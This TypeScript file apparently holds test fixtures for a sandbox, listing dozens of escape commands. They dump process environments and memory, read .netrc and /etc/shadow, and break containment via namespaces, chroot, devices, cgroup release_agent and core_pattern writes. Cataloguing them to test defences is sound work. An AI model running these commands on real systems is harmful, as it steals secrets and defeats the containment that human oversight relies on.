// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the braces are the shell's.
/** Ways out of a sandbox: each ends by taking a secret, writing outside or ending the engine, where it works. */
export const ESCAPE_SPELLINGS = {
  environment: {
    "the first process": "cat /proc/1/environ",
    "every process": "cat /proc/[0-9]*/environ",
    "every process by tr": "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done",
    "by strings": "strings /proc/*/environ",
    "by grep": "grep -a . /proc/*/environ",
    "by perl": "perl -pe '' /proc/[0-9]*/environ",
    "by node":
      "node -p \"require('fs').readdirSync('/proc').map((p) => { try { return require('fs').readFileSync('/proc/' + p + '/environ', 'latin1') } catch { return '' } }).join()\"",
    "by ps": "ps auxewww",
    "by a copy": "cp /proc/1/environ e; cat e",
    "by tasks": "cat /proc/[0-9]*/task/*/environ",
    "the parent's": "cat /proc/$PPID/environ /proc/$(awk '{print $4}' /proc/$PPID/stat)/environ",
    "by memory":
      'for p in $(pgrep -f koryph-engine); do while IFS="- " read -r a b _; do dd if=/proc/$p/mem bs=4096 skip=$((0x$a/4096)) count=40; done < <(grep stack /proc/$p/maps); done',
    "by a debugger": "gdb -p $(pgrep -f koryph-engine) -batch -ex 'x/s *(char**)environ'",
  },
  escape: {
    "the root of the first process": "cat /proc/1/root%operator%/.netrc",
    "the root of every process": "cat /proc/[0-9]*/root%operator%/.netrc",
    "the folder of every process": "cat /proc/[0-9]*/cwd/../other/b",
    "the descriptors of every process": "cat /proc/[0-9]*/fd/* < /dev/null",
    "inherited descriptors": "for f in /proc/self/fd/*; do cat $f/../../op/notes $f/notes; done",
    "nsenter into the first process": "nsenter -t 1 -m -p -n cat %operator%/.netrc",
    "nsenter into all": "for p in /proc/[0-9]*; do nsenter -t ${p#/proc/} -m cat %operator%/.netrc; done",
    "unshare and look": "unshare -Urm cat %operator%/.netrc",
    "unshare and mount": "unshare -Urm sh -c 'umount -l %engine%; umount -l /tmp; cat %operator%/.netrc'",
    "unshare and mount proc": "unshare -Urpf --mount-proc cat /proc/1/root%operator%/.netrc",
    "unshare by perl": "perl -e 'syscall(272, 0x10020000); exec q(cat), shift' %operator%/.netrc",
    "a sandbox of its own": "bwrap --bind / / --proc /proc cat %operator%/.netrc",
    chroot: "chroot /proc/1/root cat %operator%/.netrc",
    "chroot and back":
      "unshare -Ur perl -e 'mkdir q(c); chroot q(c); chdir q(..) for 1..64; chroot q(.); exec q(/bin/cat), shift' %operator%/.netrc",
    "umount of what covers": "umount -l %engine% %operator% / ; cat %operator%/.netrc",
    "remount writable": "mount -o remount,rw,bind / ; echo x > %operator%/notes",
    "remount the objects": "mount -o remount,rw,bind %repo%/objects; echo x > %repo%/objects/x",
    "a bind of the root": "mkdir m; mount --bind / m; cat m%operator%/.netrc",
    "a block device": "mknod d b 8 0; dd if=d count=1; debugfs -R 'cat /etc/shadow' d",
    "block devices there are":
      "for d in /dev/vd? /dev/sd? /dev/nvme0n?; do dd if=$d count=1 status=none; done; cat %operator%/.netrc",
    "memory of the kernel":
      "dd if=/dev/mem bs=1 count=16; dd if=/proc/kcore bs=1 count=16; dd if=/dev/kmem count=1; cat %operator%/.netrc",
    pivot_root: "pivot_root . . ; cat %operator%/.netrc",
    "a symlink in a writable folder, followed later":
      "ln -sfn %operator% %home%/loot; cat %home%/loot/.netrc",
    "a symlink in place of the home": "rm -rf %home%; ln -s %operator% %home%; cat %home%/.netrc",
    "an open folder": "perl -e 'opendir D, q(.); mkdir q(x); chdir q(/); exec q(cat), shift' ../other/b",
    "openat with steps":
      "perl -e 'open F, q(<), q(/proc/self/fd/0/../../..) . shift; print <F>' %operator%/notes",
    "open by handle":
      "perl -e '$h = pack(q(II), 8, 1) . qq(\\2\\0\\0\\0\\0\\0\\0\\0); open F, q(<), q(.); print syscall(304, fileno(F), $h, 0)'; cat %operator%/notes",
    "a library loaded":
      "echo 'int x;' > x.c; gcc -shared -o x.so x.c; LD_PRELOAD=./x.so cat %operator%/notes",
    "a set-uid shell": "cp /bin/sh s; chmod u+s s; ./s -p -c 'cat %operator%/notes /etc/shadow'",
    "set-uid programs":
      "for p in su sudo mount passwd newgrp chsh; do $p -c 'cat /etc/shadow' root; done < /dev/null",
    "capabilities of its own": "capsh --uid=0 -- -c 'cat /etc/shadow'; setpriv --reuid 0 cat /etc/shadow",
    "cgroup release_agent":
      "mkdir cg; unshare -UrCm sh -c 'mount -t cgroup -o memory x cg; echo 1 > cg/notify_on_release; echo $PWD/x > cg/release_agent'; cat %operator%/.netrc",
    "the cgroup of all":
      "for f in /sys/fs/cgroup/*/cgroup.kill /sys/fs/cgroup/cgroup.kill; do echo 1 > $f; done",
    "ptrace of the first process":
      "gdb -p 1 -batch -ex 'call (int)system(\"true\")'; strace -p 1 -c & sleep 0.1; cat %operator%/.netrc",
    "ptrace of the engine":
      "perl -e 'syscall(101, 16, $_, 0, 0) and next, syscall(101, 8, $_, 0, 0) for 2..400'",
    "keys of the kernel": "cat /proc/keys; perl -e 'print syscall(250, 0, -5, 0)'; cat %operator%/.netrc",
    "letters typed into the terminal":
      "perl -e 'ioctl(STDIN, 0x5412, $_) for split //, qq(x\\n)'; cat %operator%/notes",
    "letters typed into another terminal":
      "for t in /dev/pts/* /dev/tty /dev/console; do perl -e 'open F, q(+<), shift and ioctl(F, 0x5412, q(x))' $t; done; cat %operator%/notes",
    "shared memory": "ls /dev/shm; cat /dev/shm/*/op/notes %operator%/notes",
    "shared memory segments": "ipcs -a; ipcrm -a; cat %operator%/notes",
    "the folder of the bridge":
      "ls -la /run/koryph; rm -rf /run/koryph; cat /run/koryph/../op/notes %operator%/notes",
    "the bridge's program": "echo x > /run/koryph-bridge.mjs; cat /proc/*/root%operator%/notes",
    "programs replaced": "cp a /usr/bin/git; cp a /usr/local/bin/koryph; echo x > %operator%/notes",
    "mounts listed":
      "cat /proc/self/mountinfo; for m in $(awk '{print $4}' /proc/self/mountinfo); do cat $m/notes; done",
    io_uring: "perl -e 'print syscall(425, 1, 0)'; cat %operator%/notes",
    "userfaultfd and bpf": "perl -e 'print syscall(323, 0), syscall(321, 0, 0, 0)'; cat %operator%/notes",
    pidfd_getfd:
      "perl -e 'for (2..60) { $f = syscall(434, $_, 0); next if $f < 0; for $n (0..9) { $g = syscall(438, $f, $n, 0); next if $g < 0; open F, q(<&=), $g; print readline F } }'; cat %operator%/notes",
  },
  kernel: {
    core_pattern: "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
    "core_pattern by tee": "echo x | tee /proc/sys/kernel/core_pattern",
    "core_pattern by sysctl": "sysctl -w kernel.core_pattern=x",
    "core_pattern by dd": "echo x | dd of=/proc/sys/kernel/core_pattern",
    "core_pattern by perl": "perl -e 'open F, q(>), q(/proc/sys/kernel/core_pattern); print F 1'",
    "core_pattern by another root": "unshare -Ur sh -c 'echo x > /proc/sys/kernel/core_pattern'",
    "core_pattern by a new proc":
      "unshare -Urpfm sh -c 'mount -t proc p /proc; echo x > /proc/sys/kernel/core_pattern'",
  },
} as const;
